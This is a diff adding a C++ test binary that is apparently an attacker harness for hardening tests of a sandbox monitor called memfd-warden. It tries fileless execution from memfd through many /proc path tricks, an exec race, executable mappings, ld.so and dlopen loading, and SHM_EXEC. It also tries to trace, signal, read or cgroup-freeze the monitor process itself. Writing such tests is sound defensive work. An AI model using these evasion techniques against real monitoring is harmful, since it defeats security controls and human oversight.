@@ -1,0 +1,528 @@
+// warden_attack: a hostile target for the hardening tests. Each command tries one way around
+// memfd-warden, the way an attacker inside the sandbox would, and prints what it achieved as
+// key=value lines; most exit with the errno they met (0 on success). Tests run each command
+// natively too (the control: there it must succeed, or the test proves nothing).
+//
+// "Payload ran" is always the exit status 77: the payload is this very binary run from memory,
+// which exits 77 when /proc/self/exe is a memory file and 0 when it is the file on disk.
+#include <dlfcn.h>
+#include <fcntl.h>
+#include <linux/aio_abi.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/ipc.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/personality.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/sendfile.h>
+#include <sys/shm.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <cerrno>
+#include <cstdint>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <dirent.h>
+#include <string>
+#include <thread>
+#include <vector>
+
+namespace {
+
+constexpr int kPayloadRan = 77;
+
+int status_code(int status) {
+  if (WIFEXITED(status)) return WEXITSTATUS(status);
+  if (WIFSIGNALED(status)) return 128 + WTERMSIG(status);
+  return -1;
+}
+
+// Copies the file at `path` into `fd`.
+bool copy_file(const char* path, int fd) {
+  int source = ::open(path, O_RDONLY | O_CLOEXEC);
+  struct stat st {};
+  if (source < 0 || ::fstat(source, &st) != 0) return false;
+  bool ok = ::sendfile(fd, source, nullptr, static_cast<size_t>(st.st_size)) == st.st_size;
+  ::close(source);
+  return ok;
+}
+
+// A memfd holding a copy of this binary: the payload.
+int payload_memfd(const char* name, unsigned flags) {
+  int fd = static_cast<int>(::syscall(SYS_memfd_create, name, flags));
+  if (fd < 0) return -1;
+  if (!copy_file("/proc/self/exe", fd)) return -1;
+  return fd;
+}
+
+// Forks; the child runs `attempt` (which execs or returns an errno); returns the child's status
+// as a shell reports it: 77 when the payload ran, the errno when the exec failed.
+template <typename F>
+int in_child(F attempt) {
+  std::fflush(stdout);
+  pid_t child = ::fork();
+  if (child == 0) _exit(attempt());
+  int status = 0;
+  ::waitpid(child, &status, 0);
+  return status_code(status);
+}
+
+char* const* payload_argv() {
+  static char arg0[] = "attack", arg1[] = "payload";
+  static char* argv[] = {arg0, arg1, nullptr};
+  return argv;
+}
+char* const* no_env() {
+  static char* envp[] = {nullptr};
+  return envp;
+}
+
+// exec-path FD FORM: runs the payload in inherited (unsealed) memfd FD through one path form.
+int exec_path_form(int fd, const std::string& form) {
+  char path[256];
+  if (form == "task") {
+    std::snprintf(path, sizeof(path), "/proc/self/task/%ld/fd/%d", ::syscall(SYS_gettid), fd);
+  } else if (form == "dot") {
+    std::snprintf(path, sizeof(path), "/proc/self/./fd/%d", fd);
+  } else if (form == "slashes") {
+    std::snprintf(path, sizeof(path), "//proc///self//fd/%d", fd);
+  } else if (form == "dotdot") {
+    std::snprintf(path, sizeof(path), "/proc/self/fd/../fd/%d", fd);
+  } else if (form == "long") {
+    std::string padded = "/proc/self";
+    while (padded.size() < 300) padded += "/.";
+    std::snprintf(path, sizeof(path), "%.*s", 200, "");  // unused
+    padded += "/fd/" + std::to_string(fd);
+    ::execve(padded.c_str(), payload_argv(), no_env());
+    return errno;
+  } else if (form == "symlink") {
+    char target[64];
+    std::snprintf(target, sizeof(target), "/proc/%d/fd/%d", ::getpid(), fd);
+    std::snprintf(path, sizeof(path), "/tmp/warden-attack-link-%d", ::getpid());
+    ::unlink(path);
+    if (::symlink(target, path) != 0) return errno;
+    ::execve(path, payload_argv(), no_env());
+    int err = errno;
+    ::unlink(path);
+    return err;
+  } else if (form == "dirfd") {
+    int dir = ::open("/proc/self/fd", O_RDONLY | O_DIRECTORY);
+    std::snprintf(path, sizeof(path), "%d", fd);
+    ::syscall(SYS_execveat, dir, path, payload_argv(), no_env(), 0);
+    return errno;
+  } else if (form == "mapfiles") {
+    struct stat st {};
+    ::fstat(fd, &st);
+    void* map = ::mmap(nullptr, static_cast<size_t>(st.st_size), PROT_READ, MAP_SHARED, fd, 0);
+    if (map == MAP_FAILED) return errno;
+    auto start = reinterpret_cast<uintptr_t>(map);
+    std::snprintf(path, sizeof(path), "/proc/self/map_files/%lx-%lx", start,
+                  start + ((static_cast<uintptr_t>(st.st_size) + 4095) & ~uintptr_t{4095}));
+  } else if (form == "chdir") {
+    if (::chdir("/proc/self/fd") != 0) return errno;
+    std::snprintf(path, sizeof(path), "./%d", fd);
+  } else if (form == "script") {
+    // A script on disk whose interpreter is the memfd.
+    std::snprintf(path, sizeof(path), "/tmp/warden-attack-script-%d", ::getpid());
+    int script = ::open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
+    if (script < 0) return errno;
+    char line[64];
+    int n = std::snprintf(line, sizeof(line), "#!/proc/self/fd/%d payload\n", fd);
+    if (::write(script, line, static_cast<size_t>(n)) != n) return errno;
+    ::close(script);
+    char arg0[] = "script";
+    char* argv[] = {arg0, nullptr};
+    ::execve(path, argv, no_env());
+    int err = errno;
+    ::unlink(path);
+    return err;
+  } else {
+    return EINVAL;
+  }
+  ::execve(path, payload_argv(), no_env());
+  return errno;
+}
+
+int cmd_exec_path(int fd, const char* form) {
+  int code = in_child([&] { return exec_path_form(fd, form); });
+  std::printf("%s=%d\n", form, code);
+  return code == kPayloadRan ? 0 : 1;
+}
+
+// exec-race FD ROUNDS DISK: a second thread flips the exec path between the memfd and this
+// binary on disk (DISK) while the first execs it. Counts the rounds where the payload ran from
+// memory.
+int cmd_exec_race(int fd, long rounds, const char* disk) {
+  long from_memory = 0, from_disk = 0, refused = 0, killed = 0;
+  for (long i = 0; i < rounds; ++i) {
+    int code = in_child([&] {
+      static char buffer[256];
+      char memory[64];
+      std::snprintf(memory, sizeof(memory), "/proc/self/fd/%d", fd);
+      std::strcpy(buffer, disk);
+      std::atomic<bool> go{true};
+      std::thread flipper([&] {
+        while (go.load(std::memory_order_relaxed)) {
+          std::strcpy(buffer, memory);
+          std::strcpy(buffer, disk);
+        }
+      });
+      flipper.detach();
+      ::execve(buffer, payload_argv(), no_env());
+      return errno;
+    });
+    if (code == kPayloadRan) {
+      ++from_memory;
+    } else if (code == 0) {
+      ++from_disk;
+    } else if (code >= 128) {
+      ++killed;
+    } else {
+      ++refused;
+    }
+  }
+  std::printf("from_memory=%ld\nfrom_disk=%ld\nrefused=%ld\nkilled=%ld\n", from_memory, from_disk,
+              refused, killed);
+  return 0;
+}
+
+// Machine code for: mov eax, 42; ret.
+constexpr unsigned char kCode[] = {0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3};
+
+// map-exec HOW: an in-tree memfd holding code, made executable by HOW (mmap, mprotect, pkey,
+// personality); runs it. Prints ran=1 when the code ran; exits with the errno that stopped it.
+int cmd_map_exec(const std::string& how) {
+  int fd = static_cast<int>(::syscall(SYS_memfd_create, "jit-code", 0));
+  if (fd < 0) return errno;
+  if (::write(fd, kCode, sizeof(kCode)) != sizeof(kCode)) return errno;
+  void* map = MAP_FAILED;
+  if (how == "mmap") {
+    map = ::mmap(nullptr, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+  } else if (how == "mmap-shared") {
+    map = ::mmap(nullptr, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
+  } else if (how == "mprotect" || how == "pkey") {
+    map = ::mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
+    if (map == MAP_FAILED) return errno;
+    long rc = how == "mprotect" ? ::mprotect(map, 4096, PROT_READ | PROT_EXEC)
+                                : ::syscall(SYS_pkey_mprotect, map, 4096, PROT_READ | PROT_EXEC, -1);
+    if (rc != 0) return errno;
+  } else if (how == "personality") {
+    if (::personality(PER_LINUX | READ_IMPLIES_EXEC) == -1) return errno;
+    if (!(::personality(0xffffffff) & READ_IMPLIES_EXEC)) return EPERM;
+    map = ::mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
+  } else {
+    return EINVAL;
+  }
+  if (map == MAP_FAILED) return errno;
+  int value = reinterpret_cast<int (*)()>(map)();
+  std::printf("ran=%d\n", value == 42 ? 1 : 0);
+  return 0;
+}
+
+// ldso: the dynamic loader runs a program from a memfd: ld.so /proc/self/fd/N payload.
+int cmd_ldso(const char* loader) {
+  int fd = payload_memfd("ldso-payload", 0);
+  if (fd < 0) return errno;
+  int code = in_child([&] {
+    char path[64];
+    std::snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+    char arg0[] = "ld.so", arg2[] = "payload";
+    char* argv[] = {arg0, path, arg2, nullptr};
+    ::execve(loader, argv, no_env());
+    return errno;
+  });
+  std::printf("ldso=%d\n", code);
+  return code == kPayloadRan ? 0 : 1;
+}
+
+// dlopen LIBRARY: a shared library copied into a memfd and loaded from /proc/self/fd/N.
+int cmd_dlopen(const char* library) {
+  int fd = static_cast<int>(::syscall(SYS_memfd_create, "lib-payload", 0));
+  if (fd < 0 || !copy_file(library, fd)) return errno;
+  char path[64];
+  std::snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+  void* handle = ::dlopen(path, RTLD_NOW);
+  if (handle == nullptr) {
+    std::printf("dlopen_error=%s\n", ::dlerror());
+    return EACCES;
+  }
+  auto answer = reinterpret_cast<int (*)()>(::dlsym(handle, "warden_payload_answer"));
+  std::printf("ran=%d\n", answer != nullptr && answer() == 42 ? 1 : 0);
+  return 0;
+}
+
+// shm-exec: System V shared memory attached executable (SHM_EXEC).
+int cmd_shm_exec() {
+  int id = ::shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
+  if (id < 0) return errno;
+  void* at = ::shmat(id, nullptr, SHM_EXEC);
+  int err = at == reinterpret_cast<void*>(-1) ? errno : 0;
+  ::shmctl(id, IPC_RMID, nullptr);
+  return err;
+}
+
+// untraced: clone(CLONE_UNTRACED); exits with its errno (0: a child ran untraced).
+int cmd_untraced() {
+  long child = ::syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
+  if (child < 0) return errno;
+  if (child == 0) _exit(0);
+  int status = 0;
+  ::waitpid(static_cast<pid_t>(child), &status, 0);
+  return 0;
+}
+
+// untraced-sleeper: a child (untraced where the kernel lets us) that outlives us; prints ready.
+int cmd_untraced_sleeper() {
+  long child = ::syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
+  if (child < 0) child = ::fork();
+  if (child == 0) {
+    for (;;) ::pause();
+  }
+  std::printf("untraced=%d\nready\n", errno == 0 ? 1 : 0);
+  std::fflush(stdout);
+  for (;;) ::pause();
+}
+
+// reach: looks for memfd-warden (any process named so) and tries to trace it, open its memory,
+// signal it, read it, and to write the cgroup controls that would freeze or kill it. Also tries
+// to trace and read memfd-warden's init in the tree's PID namespace ("warden-init").
+int cmd_reach() {
+  // The host's /proc may lie under the tree's own. Unmount it only in a mount namespace of our
+  // own: run natively as root, an unmount in the host's namespace would take /proc away from
+  // the whole machine.
+  if (::unshare(CLONE_NEWNS) == 0 &&
+      ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0) {
+    ::umount2("/proc", MNT_DETACH);
+    struct stat st {};
+    // Nothing beneath (a native run): a /proc of our own, of the same processes.
+    if (::stat("/proc/self", &st) != 0) ::mount("proc", "/proc", "proc", 0, nullptr);
+  }
+  int found = 0, traced = 0, mem = 0, signalled = 0, pidfd_signalled = 0, read_memory = 0;
+  int init_traced = 0, init_mem = 0;
+  if (DIR* proc = ::opendir("/proc")) {
+    while (dirent* entry = ::readdir(proc)) {
+      char* end = nullptr;
+      long pid = std::strtol(entry->d_name, &end, 10);
+      if (pid <= 0 || *end != '\0' || pid == ::getpid()) continue;
+      char path[96], comm[32] = {};
+      std::snprintf(path, sizeof(path), "/proc/%ld/comm", pid);
+      int fd = ::open(path, O_RDONLY);
+      if (fd < 0) continue;
+      ssize_t n = ::read(fd, comm, sizeof(comm) - 1);
+      ::close(fd);
+      if (n > 0 && std::strncmp(comm, "warden-init", 11) == 0) {
+        if (::ptrace(PTRACE_SEIZE, static_cast<pid_t>(pid), nullptr, nullptr) == 0) {
+          ++init_traced;
+          ::ptrace(PTRACE_DETACH, static_cast<pid_t>(pid), nullptr, nullptr);
+        }
+        std::snprintf(path, sizeof(path), "/proc/%ld/mem", pid);
+        fd = ::open(path, O_RDWR);
+        if (fd >= 0) {
+          ++init_mem;
+          ::close(fd);
+        }
+        continue;
+      }
+      if (n <= 0 || std::strncmp(comm, "memfd-warden", 12) != 0) continue;
+      ++found;
+      if (::ptrace(PTRACE_SEIZE, static_cast<pid_t>(pid), nullptr, nullptr) == 0) {
+        ++traced;
+        ::ptrace(PTRACE_DETACH, static_cast<pid_t>(pid), nullptr, nullptr);
+      }
+      std::snprintf(path, sizeof(path), "/proc/%ld/mem", pid);
+      fd = ::open(path, O_RDWR);
+      if (fd >= 0) {
+        ++mem;
+        ::close(fd);
+      }
+      if (::kill(static_cast<pid_t>(pid), 0) == 0) ++signalled;
+      std::snprintf(path, sizeof(path), "/proc/%ld", pid);
+      fd = ::open(path, O_RDONLY | O_DIRECTORY);
+      if (fd >= 0 && ::syscall(SYS_pidfd_send_signal, fd, 0, nullptr, 0) == 0) ++pidfd_signalled;
+      if (fd >= 0) ::close(fd);
+      char byte = 0;
+      iovec local{&byte, 1}, remote{reinterpret_cast<void*>(0x400000), 1};
+      // Any readable address proves access; EFAULT (not EPERM/ESRCH) says we got that far.
+      long got = ::process_vm_readv(static_cast<pid_t>(pid), &local, 1, &remote, 1, 0);
+      if (got >= 0 || errno == EFAULT) ++read_memory;
+    }
+    ::closedir(proc);
+  }
+  // The cgroup tree: a writable one lets a root target freeze or kill the cgroup it shares with
+  // memfd-warden (freezer.state, cgroup.freeze, cgroup.kill) or move itself out of it. Measured
+  // by making (and removing) a cgroup of our own, and by opening those controls for writing.
+  int cgroup_writable = 0;
+  for (const char* hierarchy : {"/sys/fs/cgroup/freezer", "/sys/fs/cgroup/unified", "/sys/fs/cgroup"}) {
+    char path[128];
+    std::snprintf(path, sizeof(path), "%s/warden-attack-%d", hierarchy, ::getpid());
+    if (::mkdir(path, 0755) == 0) {
+      ++cgroup_writable;
+      ::rmdir(path);
+    }
+  }
+  for (const char* control : {"/sys/fs/cgroup/freezer/freezer.state", "/sys/fs/cgroup/cgroup.freeze",
+                              "/sys/fs/cgroup/unified/cgroup.freeze", "/sys/fs/cgroup/cgroup.kill"}) {
+    int fd = ::open(control, O_WRONLY);
+    if (fd >= 0) {
+      ++cgroup_writable;
+      ::close(fd);
+    }
+  }
+  std::printf("found=%d\ntraced=%d\nmem=%d\nsignalled=%d\npidfd_signalled=%d\nread_memory=%d\n"
+              "cgroup_writable=%d\ninit_traced=%d\ninit_mem=%d\n",
+              found, traced, mem, signalled, pidfd_signalled, read_memory, cgroup_writable,
+              init_traced, init_mem);
+  return 0;
+}
+
+// decoy NAME: a process named NAME (memfd-warden, warden-init), for reach's control run.
+int cmd_decoy(const char* name) {
+  ::prctl(PR_SET_NAME, name, 0, 0, 0);
+  std::printf("ready\n");
+  std::fflush(stdout);
+  for (;;) ::pause();
+}
+
+// aio SIZE: Linux AIO writes one byte at offset SIZE-1 of a memfd (growing it to SIZE).
+int cmd_aio(long size) {
+  int fd = static_cast<int>(::syscall(SYS_memfd_create, "aio", 0));
+  if (fd < 0) return errno;
+  aio_context_t context = 0;
+  if (::syscall(SYS_io_setup, 1, &context) != 0) return errno;
+  char byte = 'x';
+  iocb request{};
+  request.aio_lio_opcode = IOCB_CMD_PWRITE;
+  request.aio_fildes = static_cast<uint32_t>(fd);
+  request.aio_buf = reinterpret_cast<uint64_t>(&byte);
+  request.aio_nbytes = 1;
+  request.aio_offset = size - 1;
+  iocb* requests[] = {&request};
+  if (::syscall(SYS_io_submit, context, 1, requests) != 1) return errno;
+  io_event event{};
+  if (::syscall(SYS_io_getevents, context, 1, 1, &event, nullptr) != 1) return errno;
+  struct stat st {};
+  ::fstat(fd, &st);
+  std::printf("size=%lld\n", static_cast<long long>(st.st_size));
+  return event.res < 0 ? static_cast<int>(-event.res) : 0;
+}
+
+// truncate-path SIZE: grows a memfd to SIZE through truncate("/proc/self/fd/N").
+int cmd_truncate_path(long size) {
+  int fd = static_cast<int>(::syscall(SYS_memfd_create, "by-path", 0));
+  if (fd < 0) return errno;
+  char path[64];
+  std::snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+  int err = ::truncate(path, size) == 0 ? 0 : errno;
+  struct stat st {};
+  ::fstat(fd, &st);
+  std::printf("size=%lld\n", static_cast<long long>(st.st_size));
+  return err;
+}
+
+// secret-flight COUNT SIZE: COUNT memfd_secret files of SIZE bytes, each filled, sent over a
+// socketpair that nobody reads, and closed here. Prints how many were made in full.
+int cmd_secret_flight(long count, long size) {
+  int pair[2];
+  if (::socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) return errno;
+  long made = 0;
+  int err = 0;
+  for (long i = 0; i < count; ++i) {
+    int fd = static_cast<int>(::syscall(SYS_memfd_secret, 0));
+    if (fd < 0) {
+      err = errno;
+      break;
+    }
+    if (::ftruncate(fd, size) != 0) {
+      err = errno;
+      break;
+    }
+    void* map = ::mmap(nullptr, static_cast<size_t>(size), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    if (map == MAP_FAILED) {
+      err = errno;
+      break;
+    }
+    std::memset(map, 0x5a, static_cast<size_t>(size));
+    ::munmap(map, static_cast<size_t>(size));
+    char byte = 's';
+    iovec data{&byte, 1};
+    alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+    msghdr message{};
+    message.msg_iov = &data;
+    message.msg_iovlen = 1;
+    message.msg_control = control;
+    message.msg_controllen = sizeof(control);
+    cmsghdr* header = CMSG_FIRSTHDR(&message);
+    header->cmsg_level = SOL_SOCKET;
+    header->cmsg_type = SCM_RIGHTS;
+    header->cmsg_len = CMSG_LEN(sizeof(int));
+    std::memcpy(CMSG_DATA(header), &fd, sizeof(int));
+    if (::sendmsg(pair[0], &message, 0) != 1) {
+      err = errno;
+      break;
+    }
+    ::close(fd);
+    ++made;
+  }
+  std::printf("made=%ld\n", made);
+  return err;
+}
+
+// x32-create: memfd_create through the x32 ABI.
+int cmd_x32_create() {
+  long fd = ::syscall(0x40000000 | 319, "x32", 0);
+  return fd >= 0 ? 0 : errno;
+}
+
+// payload: what runs from memory. 77 when this code was loaded from a memory file (the
+// program itself, or mapped by a loader such as ld.so), else 0.
+int cmd_payload() {
+  char link[256] = {};
+  ::readlink("/proc/self/exe", link, sizeof(link) - 1);
+  if (std::strstr(link, "(deleted)") != nullptr) return kPayloadRan;
+  FILE* maps = std::fopen("/proc/self/maps", "re");
+  char line[512];
+  bool from_memory = false;
+  while (maps != nullptr && std::fgets(line, sizeof(line), maps)) {
+    char perms[8] = {};
+    if (std::sscanf(line, "%*s %7s", perms) == 1 && perms[2] == 'x' &&
+        std::strstr(line, " (deleted)") != nullptr) {
+      from_memory = true;
+    }
+  }
+  if (maps != nullptr) std::fclose(maps);
+  return from_memory ? kPayloadRan : 0;
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  auto arg = [&](int i) -> const char* { return i < argc ? argv[i] : ""; };
+  std::string command = arg(1);
+  if (command == "payload") return cmd_payload();
+  if (command == "exec-path") return cmd_exec_path(std::atoi(arg(2)), arg(3));
+  if (command == "exec-race") return cmd_exec_race(std::atoi(arg(2)), std::atol(arg(3)), arg(4));
+  if (command == "map-exec") return cmd_map_exec(arg(2));
+  if (command == "ldso") return cmd_ldso(arg(2));
+  if (command == "dlopen") return cmd_dlopen(arg(2));
+  if (command == "shm-exec") return cmd_shm_exec();
+  if (command == "untraced") return cmd_untraced();
+  if (command == "untraced-sleeper") return cmd_untraced_sleeper();
+  if (command == "reach") return cmd_reach();
+  if (command == "decoy") return cmd_decoy(arg(2));
+  if (command == "aio") return cmd_aio(std::atol(arg(2)));
+  if (command == "truncate-path") return cmd_truncate_path(std::atol(arg(2)));
+  if (command == "secret-flight") return cmd_secret_flight(std::atol(arg(2)), std::atol(arg(3)));
+  if (command == "x32-create") return cmd_x32_create();
+  std::fprintf(stderr, "warden_attack: unknown command '%s'\n", command.c_str());
+  return 2;
+}
